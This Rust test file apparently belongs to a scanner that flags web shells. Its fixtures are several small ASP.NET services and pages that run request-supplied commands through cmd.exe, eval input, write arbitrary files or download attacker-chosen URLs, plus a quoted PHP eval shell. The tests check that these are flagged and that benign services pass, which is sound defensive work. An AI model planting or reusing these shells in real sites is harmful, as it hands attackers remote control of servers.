//! Services whose methods clients call by name: their parameters are what the request sends.

use super::{Verdict, read};

fn verdict(name: &str, text: &str) -> Verdict {
    read(text.as_bytes(), name).verdict()
}

#[test]
fn parameters_of_published_methods_come_from_the_request() {
    for (name, text) in [
        (
            "a.asmx",
            r#"<%@ WebService Language="C#" Class="T" %>
public class T : System.Web.Services.WebService { [System.Web.Services.WebMethod(Description="x; y")] public string Go(string line) { var i = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + line); return System.Diagnostics.Process.Start(i).StandardOutput.ReadToEnd(); } }"#,
        ),
        (
            "b.asmx",
            r#"<%@ WebService Language="JScript" Class="T"%>
import System; import System.Web.Services;
public class T extends WebService { WebMethodAttribute function Go(line : String) : String { return eval(line, "unsafe"); } }"#,
        ),
        (
            "c.asmx",
            r#"<%@ WebService Language="C#" Class="T" %>
public class T : System.Web.Services.WebService { [WebMethod] public void Put(string where, string what) { System.IO.File.WriteAllText(where, what); } }"#,
        ),
        (
            "d.svc",
            r#"<%@ ServiceHost Language="C#" Service="T" %>
using System.ServiceModel; [ServiceContract] public class T { [OperationContract] public string Go(string line) { return System.Diagnostics.Process.Start("cmd.exe", "/c " + line).ToString(); } }"#,
        ),
        (
            "e.asmx",
            "<%@ WebService Language=\"VB\" Class=\"T\" %>\nPublic Class T\nInherits System.Web.Services.WebService\n<WebMethod()> Public Function Go(ByVal line As String) As String\nDim p = System.Diagnostics.Process.Start(\"cmd.exe\", \"/c \" & line)\nReturn p.ToString()\nEnd Function\nEnd Class\n",
        ),
        (
            "f.aspx",
            r#"<%@ Page Language="C#" %><% new System.Net.WebClient().DownloadFile(Request["from"], Request["to"]); %>"#,
        ),
    ] {
        assert_eq!(verdict(name, text), Verdict::Accused, "{name}");
    }
}

#[test]
fn a_document_that_quotes_a_shell_is_looked_at_and_not_accused() {
    let quoted = "# Shells\n\n```\n<?php eval($_POST['k']); ?>\n```\n";
    assert_eq!(verdict("notes.md", quoted), Verdict::Suspicious);
    assert_eq!(verdict("notes.txt", quoted), Verdict::Accused, "texts are included as code");
}

#[test]
fn a_service_that_only_answers_is_clean_and_so_is_a_method_that_no_client_calls() {
    for (name, text) in [
        (
            "a.asmx",
            r#"<%@ WebService Language="C#" Class="T" %>
public class T : System.Web.Services.WebService { [WebMethod] public decimal Price(string article, int pieces) { return Shop.Catalogue.Find(article).Price * pieces; } }"#,
        ),
        (
            "b.asmx",
            r#"<%@ WebService Language="C#" Class="T" %>
public class T : System.Web.Services.WebService { [WebMethod] public string State() { return Log("ok"); } private string Log(string line) { System.IO.File.AppendAllText(Server.MapPath("~/App_Data/state.log"), line); return line; } }"#,
        ),
        (
            "c.aspx",
            r#"<%@ Page Language="C#" %><% new System.Net.WebClient().DownloadFile("https://updates.example/list.xml", Server.MapPath("~/App_Data/list.xml")); %>"#,
        ),
    ] {
        assert_eq!(verdict(name, text), Verdict::Clean, "{name}");
    }
}
